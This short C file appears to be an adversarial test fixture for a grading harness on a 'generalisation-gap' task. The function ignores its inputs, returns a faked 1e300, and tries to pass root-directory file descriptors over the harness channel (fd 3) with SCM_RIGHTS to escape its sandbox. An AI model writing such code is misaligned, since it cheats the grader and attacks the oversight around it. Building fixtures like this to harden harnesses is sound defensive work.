// Tries: to push descriptors of its own into the suite, through the channel.
// Task: ch05_mlp generalisation-gap
// Loses: chapter
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>

double generalisation_gap(const double *train, const double *validation,
                          size_t n_epochs, size_t last)
{
    enum { MANY = 64 };
    union {
        char room[CMSG_SPACE(MANY * sizeof(int))];
        struct cmsghdr header;
    } control = {.header = {.cmsg_len = CMSG_LEN(MANY * sizeof(int)),
                            .cmsg_level = SOL_SOCKET,
                            .cmsg_type = SCM_RIGHTS}};
    (void)train, (void)validation, (void)n_epochs, (void)last;
    int fds[MANY];
    for (int i = 0; i < MANY; i++)
        fds[i] = i % 2 ? 3 : open("/", O_RDONLY | O_DIRECTORY);
    memcpy(CMSG_DATA(&control.header), fds, sizeof fds);
    char byte = 'W';
    struct iovec part = {&byte, 1};
    struct msghdr m = {.msg_iov = &part,
                       .msg_iovlen = 1,
                       .msg_control = &control,
                       .msg_controllen = sizeof control};
    for (int i = 0; i < 100; i++)
        sendmsg(3, &m, MSG_DONTWAIT | MSG_NOSIGNAL);
    return 1e300;
}
